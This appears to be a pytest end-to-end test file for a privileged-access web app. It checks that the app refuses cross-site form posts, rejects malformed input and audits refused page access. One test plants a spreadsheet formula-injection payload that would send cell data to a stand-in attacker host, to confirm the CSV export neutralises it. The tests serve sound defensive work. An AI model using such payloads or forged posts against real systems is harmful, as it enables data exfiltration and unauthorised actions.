"""The web pages' forms over plain HTTP against a real server: what a hostile or careless post gets.
(The clicking itself is in tests/web, in a real browser.)"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager

import httpx
import pytest

from tests.e2e.conftest import DEMO_PASSWORD, Server, start_server, token_for

MOVE = "Exchange\\New-MoveRequest"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    s = start_server(tmp_path_factory.mktemp("web-forms"), "--demo")
    yield s
    s.stop()


def csrf_of(page: httpx.Response) -> str:
    found = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert found is not None, page.text
    return found.group(1)


@contextmanager
def signed_in(server: Server, upn: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url) as browser:
        form = browser.get("/login")
        answer = browser.post(
            "/login",
            data={"user": upn, "password": DEMO_PASSWORD, "csrf": csrf_of(form), "next": "/"},
        )
        assert answer.status_code == 303, answer.text
        yield browser


def flash_of(browser: httpx.Client, answer: httpx.Response) -> str:
    assert answer.status_code == 303
    page = browser.get(answer.headers["location"])
    found = re.search(r'<p class="flash (?:ok|error)"[^>]*>([^<]*)</p>', page.text)
    assert found is not None, page.text
    return found.group(1)


def api(server: Server, upn: str) -> httpx.Client:
    return httpx.Client(
        base_url=server.url + "/api/v1",
        headers={"Authorization": f"Bearer {token_for(server, upn)}"},
    )


def test_a_form_posted_from_another_site_is_refused_even_with_its_token(server: Server) -> None:
    with api(server, "alice@contoso.com") as alice:
        asked = alice.post(
            "/requests", json={"type": "task", "target": MOVE, "reason": "cross-site test"}
        ).json()
    try:
        with signed_in(server, "bob@contoso.com") as bob:
            page = bob.get(f"/requests/{asked['id']}")
            token = csrf_of(page)
            forged = bob.post(
                f"/requests/{asked['id']}/approve",
                data={"csrf": token},
                headers={"origin": "https://evil.example", "sec-fetch-site": "cross-site"},
            )
            assert forged.status_code == 403
            assert "Form refused" in forged.text
            assert 'id="request-status">pending<' in bob.get(f"/requests/{asked['id']}").text
            # The same form from the page itself is taken.
            done = bob.post(
                f"/requests/{asked['id']}/approve",
                data={"csrf": token},
                headers={"origin": server.url, "sec-fetch-site": "same-origin"},
            )
            assert flash_of(bob, done) == "The request is now approved"
    finally:
        with api(server, "bob@contoso.com") as bob_api:
            bob_api.post(f"/requests/{asked['id']}/revoke", json={})


def test_the_sign_in_form_refuses_a_post_from_another_site(server: Server) -> None:
    with httpx.Client(base_url=server.url) as browser:
        form = browser.get("/login")
        answer = browser.post(
            "/login",
            data={"user": "alice@contoso.com", "password": DEMO_PASSWORD, "csrf": csrf_of(form)},
            headers={"origin": "https://evil.example"},
        )
        assert answer.status_code == 403
        assert "jitpam_session" not in answer.headers.get("set-cookie", "")


@pytest.mark.parametrize(
    ("field", "value", "says"),
    [
        ("hours", "\u00b2", "duration must be a whole number"),
        ("hours", "9" * 5000, "duration must be a whole number"),
        ("hours", "0", "duration must be more than 0 hours"),
        ("target", "task|Exchange\\No-SuchTask", "no privileged access policy covers"),
    ],
)
def test_a_bad_new_request_says_what_is_wrong_and_creates_nothing(
    server: Server, field: str, value: str, says: str
) -> None:
    with signed_in(server, "alice@contoso.com") as alice:
        form = alice.get("/requests/new")
        data = {"csrf": csrf_of(form), "target": f"task|{MOVE}", "reason": "x", "hours": "1"}
        data[field] = value
        answer = alice.post("/requests", data=data)
        assert says in flash_of(alice, answer)
        listed = alice.get("/my-access").text
        assert "No-SuchTask" not in listed


def test_a_typed_target_is_checked_as_a_listed_one_would_be(server: Server) -> None:
    # With many policies the form lists some and takes the others typed ("Another target").
    with signed_in(server, "alice@contoso.com") as alice:
        form = alice.get("/requests/new")
        base = {"csrf": csrf_of(form), "target": "other|", "reason": "typed", "hours": "1"}
        unknown = {**base, "other_type": "task", "other_target": "Exchange\\No-SuchTask"}
        answer = alice.post("/requests", data=unknown)
        assert "no privileged access policy covers" in flash_of(alice, answer)
        bogus = {**base, "other_type": "bogus", "other_target": MOVE}
        assert "choose what to request" in flash_of(alice, alice.post("/requests", data=bogus))
        assert "No-SuchTask" not in alice.get("/my-access").text


def test_a_policy_form_with_a_bogus_approval_type_is_refused(server: Server) -> None:
    with signed_in(server, "admin@contoso.com") as admin:
        token = csrf_of(admin.get("/policies"))
        answer = admin.post(
            "/policies",
            data={
                "csrf": token,
                "type": "task",
                "target": "Exchange\\Get-Recipient",
                "approval_type": "sometimes",
            },
        )
        assert "approval type" in flash_of(admin, answer)
        page = admin.get("/policies").text
        listed = page[page.index('id="policies"') : page.index("</table>")]
        assert "Exchange\\New-MoveRequest" in listed
        assert "Exchange\\Get-Recipient" not in listed


def test_odd_audit_filters_and_cursors_are_invalid_input_not_server_errors(
    server: Server,
) -> None:
    mangled = base64.urlsafe_b64encode(json.dumps(["yesterday", "not-an-id"]).encode()).decode()
    with signed_in(server, "admin@contoso.com") as admin:
        overflow = admin.get("/audit", params={"since": "0001-01-01T00:00+05:00"})
        assert overflow.status_code == 422
        assert "is not a date and time" in overflow.text
        outcome = admin.get("/audit", params={"outcome": "maybe"})
        assert "outcome" in outcome.text
        assert 'id="audit"' in outcome.text
        assert "<td>1</td>" not in outcome.text  # nothing listed for a filter it cannot read
        cursor = admin.get("/requests", params={"cursor": mangled})
        assert cursor.status_code == 422
        assert "the page cursor is not valid" in cursor.text
        too_long = admin.get("/requests", params={"q": "x" * 300})
        assert too_long.status_code == 422


def test_the_audit_page_refuses_a_requester_and_audits_the_refusal(server: Server) -> None:
    with signed_in(server, "alice@contoso.com") as alice:
        page = alice.get("/audit")
        assert page.status_code == 403
        assert "Search-AuditLog" in page.text
        assert 'href="/audit"' not in page.text
    with api(server, "admin@contoso.com") as admin:
        refused = admin.get(
            "/audit",
            params={"operation": "Search-AuditLog", "outcome": "refused"},
        ).json()["items"]
    assert any(r["actor"] == "alice@contoso.com" for r in refused)


def test_the_settings_page_refuses_a_requester_and_audits_the_refusal(server: Server) -> None:
    with signed_in(server, "alice@contoso.com") as alice:
        page = alice.get("/settings")
        assert page.status_code == 403
        assert "privileged access settings" in page.text
        assert 'id="control-state"' not in page.text
    with api(server, "admin@contoso.com") as admin:
        refused = admin.get(
            "/audit",
            params={
                "actor": "alice@contoso.com",
                "operation": "Enable-ElevatedAccessControl",
                "outcome": "refused",
            },
        ).json()["items"]
    assert [(r["actor"], r["target"]) for r in refused] == [("alice@contoso.com", "access control")]
    assert refused[0]["details"]["error"] == "not_permitted"


def test_csv_export_cells_never_start_like_a_formula(server: Server) -> None:
    planted = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
    with api(server, "alice@contoso.com") as alice:
        refused = alice.post(
            "/requests", json={"type": "task", "target": planted, "reason": "formula"}
        )
        assert refused.status_code in (404, 422)
    with signed_in(server, "admin@contoso.com") as admin:
        export = admin.get(
            "/audit/export.csv",
            params={"actor": "alice@contoso.com", "operation": "New-ElevatedAccessRequest"},
        )
        assert export.status_code == 200
        assert export.headers["content-disposition"].startswith("attachment")
    rows = list(csv.DictReader(io.StringIO(export.text)))
    targets = [r["target"] for r in rows]
    assert "'" + planted in targets
    assert not any(cell.startswith("=") for r in rows for cell in r.values())
